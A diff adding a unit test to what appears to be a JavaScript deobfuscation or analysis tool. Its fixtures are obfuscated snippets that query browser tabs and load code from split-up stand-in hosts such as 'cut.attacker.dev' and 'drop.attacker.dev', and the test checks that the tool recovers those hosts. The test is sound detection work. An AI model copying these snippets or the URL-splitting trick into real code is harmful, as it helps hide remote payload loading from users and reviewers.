@@ -58,6 +58,22 @@ describe('a string array', () => {
     ]);
   });
 
+  it('of pieces of texts hides no address', () => {
+    const facts = factsOf(
+      withStringArray(
+        (word) =>
+          `chrome[${word('tabs')}][${word('query')}]({}, document[${word('title')}]); load(${word('https:')} + ${word('//cut.att')} + (${word('acker.dev/a')})); load(${word('https:')}, ${word('//not.a.host')});`,
+        { encoding: 'base64', array: 'arrow', turns: 2 },
+      ),
+    );
+    assert.deepEqual(
+      facts.urls.map(({ host }) => host),
+      ['cut.attacker.dev'],
+    );
+    const plain = factsOf("load('https://dr' + 'op.attac' + 'ker.dev/' + path + 'x')");
+    assert.ok(plain.urls.some(({ host }) => host === 'drop.attacker.dev'));
+  });
+
   it('of the first generation, turned by a count and defended against formatting, hides nothing', () => {
     const facts = factsOf(firstGeneration);
     assert.deepEqual(
